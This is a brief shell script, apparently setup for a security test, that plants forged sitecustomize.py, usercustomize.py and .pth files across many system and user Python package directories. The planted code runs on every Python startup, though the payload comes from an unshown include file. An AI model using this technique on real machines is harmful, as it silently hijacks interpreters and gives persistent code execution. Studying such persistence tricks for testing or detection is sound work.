# Modules that every Python loads when it starts: sitecustomize, usercustomize, .pth, in the system and in homes.
. /tmp/scripts/plant.inc
version=$(python3 -c 'import sys; print("python%d.%d" % sys.version_info[:2])')
for folder in /root/.local/lib/$version/site-packages /usr/local/lib/$version/dist-packages /usr/lib/python3/dist-packages \
  /usr/lib/$version "$PWD" /tmp "$HOME"; do
  mkdir -p "$folder"
  for name in sitecustomize.py usercustomize.py; do forged_startup > "$folder/$name"; done
  forged_startup > "$folder/forged_startup.py"
  echo 'import forged_startup' > "$folder/forged.pth"
done
